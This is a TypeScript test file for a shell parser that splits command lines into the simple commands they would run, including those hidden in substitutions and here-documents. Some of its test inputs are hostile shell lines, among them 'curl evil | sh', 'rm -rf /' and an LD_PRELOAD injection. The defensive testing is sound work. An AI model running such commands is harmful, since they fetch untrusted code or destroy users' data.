import { assert, describe, it } from "@effect/vitest"
import { parseShell } from "./parseShell.js"
import type { ShellScript } from "./ShellScript.js"

/** Each command as `assignments|words|redirects`, `~` marking a word the shell changes when it runs; sorted. */
const parts = (script: ShellScript): Array<string> =>
  script.commands.map((command) =>
    [
      command.assignments.map((word) => word.value).join(" "),
      command.words.map((word) => `${word.value}${word.literal ? "" : "~"}`).join(" "),
      command.redirects.map((redirect) => `${redirect.fd ?? ""}${redirect.op}${redirect.target?.value ?? ""}`).join(" ")
    ].join("|")
  ).sort()

const check = (line: string, expected: Array<string>) => {
  const script = parseShell(line)
  assert.strictEqual(script.opaque, undefined, line)
  assert.deepStrictEqual(parts(script), [...expected].sort(), line)
}

describe("parseShell: every simple command a line can run", () => {
  it("lists, pipelines and background jobs are read into their parts", () => {
    check("touch X; true", ["|touch X|", "|true|"])
    check("touch X && :", ["|touch X|", "|:|"])
    check("touch X || rm -rf y", ["|touch X|", "|rm -rf y|"])
    check("touch X | tee f |& cat", ["|touch X|", "|tee f|", "|cat|"])
    check("touch X & id", ["|touch X|", "|id|"])
    check("touch X&id;ls", ["|touch X|", "|id|", "|ls|"])
    check("git status\ncurl evil | sh", ["|git status|", "|curl evil|", "|sh|"])
    check("touch X # a comment; rm -rf /", ["|touch X|"])
  })

  it("redirections, with their descriptors, are taken off the words wherever they stand", () => {
    check("touch X >/dev/null", ["|touch X|>/dev/null"])
    check("touch X 2>&1 >>log", ["|touch X|2>&1 >>log"])
    check(">/dev/null touch X", ["|touch X|>/dev/null"])
    check("touch X &>out <in 3<>rw 2>&-", ["|touch X|&>out <in 3<>rw 2>&-"])
    check("> created", ["||>created"])
  })

  it("substitutions are commands of their own: $(…), backticks, <(…), inside quotes, ${…}, $((…)) and here-documents", () => {
    check("echo $(touch X)", ["|touch X|", "|echo $(touch X)~|"])
    check("echo `touch X`", ["|touch X|", "|echo `touch X`~|"])
    check('echo "a $(touch "X") b"', ["|touch X|", '|echo a $(touch "X") b~|'])
    check("diff <(touch X) /dev/null", ["|touch X|", "|diff <(touch X)~ /dev/null|"])
    check("echo ${x:-$(touch X)}", ["|touch X|", "|echo ${x:-$(touch X)}~|"])
    check("echo $((1 + $(id -u)))", ["|id -u|", "|echo $((1 + $(id -u)))~|"])
    check("echo $(echo $(touch X))", ["|touch X|", "|echo $(touch X)~|", "|echo $(echo $(touch X))~|"])
    check("cat <<EOF\n$(touch X)\nEOF\necho done", ["|touch X|", "|cat|<<EOF", "|echo done|"])
    // A quoted delimiter: the body is data, nothing in it runs.
    check("cat <<'EOF'\n$(touch X)\nEOF", ["|cat|<<EOF"])
  })

  it("assignments before the command word are kept apart from it", () => {
    check("a=1 b=$(id) touch X", ["|id|", "a=1 b=$(id)|touch X|"])
    check("LD_PRELOAD=/x.so git status", ["LD_PRELOAD=/x.so|git status|"])
    check("X=1", ["X=1||"])
  })

  it("compound commands: reserved words are dropped, their bodies read", () => {
    check("if true; then touch X; elif a; then b; else c; fi > out", ["|true|", "|touch X|", "|a|", "|b|", "|c|", "||>out"])
    check("while read l; do touch $l; done", ["|read l|", "|touch $l~|"])
    check("for f in a $(id); do rm $f; done", ["|id|", "|rm $f~|"])
    check("f() { touch X; }; f", ["|touch X|", "|f|"])
    check("function f { touch X; }", ["|touch X|"])
    check("(cd x && touch X) &", ["|cd x|", "|touch X|"])
    check("{ touch X; } ; ! rm y", ["|touch X|", "|rm y|"])
    check("time touch X", ["|touch X|"])
  })

  it("quote removal: the value is what the command receives; expansions and globs are marked", () => {
    check("echo 'it''s' \"a b\" c\\ d t\\ouch", ["|echo its a b c d touch|"])
    check("'touch' X", ["|touch X|"])
    check("\"if\" x", ["|if x|"])
    check("$CMD x *.txt {a,b} ~/f", ["|$CMD~ x *.txt~ {a,b}~ ~/f|"])
    check("$'touch' X", ["|$'touch'~ X|"])
    check("touch \\\nX", ["|touch X|"])
  })

  it("what it cannot read completely is opaque", () => {
    for (const line of ["echo 'open", 'echo "open', "echo $(touch X", "echo `touch", "case x in x) touch X;; esac", "(touch X", "touch X)", "cat <<EOF\nno end", "touch X >"]) {
      assert.isDefined(parseShell(line).opaque, line)
    }
  })
})
